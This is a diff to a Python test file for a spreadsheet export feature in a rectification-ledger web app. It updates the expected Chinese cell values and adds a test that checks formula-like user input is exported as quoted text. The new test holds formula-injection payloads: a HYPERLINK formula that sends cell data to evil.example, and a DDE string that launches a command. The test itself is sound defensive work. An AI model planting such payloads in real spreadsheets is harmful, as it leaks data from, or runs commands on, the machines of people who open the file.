@@ -58,10 +58,11 @@ def test_the_ledger_of_a_target_exports_to_xlsx(cast, open_item, login, english)
     assert rows[0] == HEADER == [name for name, _width in LEDGER_COLUMNS]
     assert len(rows) == 3
     first, second = rows[1], rows[2]
-    assert first[:5] == ["甲县局", "Inspection finding", "逾期问题", "措施甲", "张伟"]
+    # the values are Chinese like the header, whatever the language of the page
+    assert first[:5] == ["甲县局", "检查发现问题", "逾期问题", "措施甲", "张伟"]
     assert first[6].date() == date(2026, 7, 1)
-    assert (first[7], first[11]) == ("Planned", "是")
-    assert second[2] == "难以整改的问题" and second[7] == "Explained"
+    assert (first[7], first[11]) == ("待整改", "是")
+    assert second[2] == "难以整改的问题" and second[7] == "已作说明"
     assert (
         second[8] == "需省级统筹"
         and second[9] == "Organizer"
@@ -104,3 +105,33 @@ def test_exports_are_scoped_by_permission(cast, open_item, login):
         .status_code
         == 403
     )
+
+
+def test_user_text_that_looks_like_a_formula_is_exported_as_text(cast, open_item, login):
+    texts = {
+        "problem": '=HYPERLINK("http://evil.example/?d="&A1,"点此查看")',
+        "plan": "+1+1",
+        "responsible_person": "@SUM(A1:A9)",
+        "goal": "-2+3",
+    }
+    item = open_item(**texts)
+    explanation = "=cmd|' /C calc'!A0"
+    do_explain_rectification_item(
+        access_of(cast, cast.liaison), item, explanation=explanation, acting_user=cast.liaison
+    )
+    response = login(cast.organizer).get(
+        reverse("rectification:export_target", args=["c-2026", "county-a"])
+    )
+    sheet = load_workbook(BytesIO(response.content)).active
+    cells = {
+        "problem": sheet["C2"],
+        "plan": sheet["D2"],
+        "responsible_person": sheet["E2"],
+        "goal": sheet["F2"],
+    }
+    for name, cell in cells.items():
+        assert (cell.data_type, cell.value) == ("s", texts[name]), name
+    assert (sheet["I2"].data_type, sheet["I2"].value) == ("s", explanation)
+    # marked as quoted text, so editing the cell in a spreadsheet keeps it text
+    assert sheet["C2"].quotePrefix and sheet["I2"].quotePrefix
+    assert not any(c.data_type == "f" for row in sheet.iter_rows() for c in row)
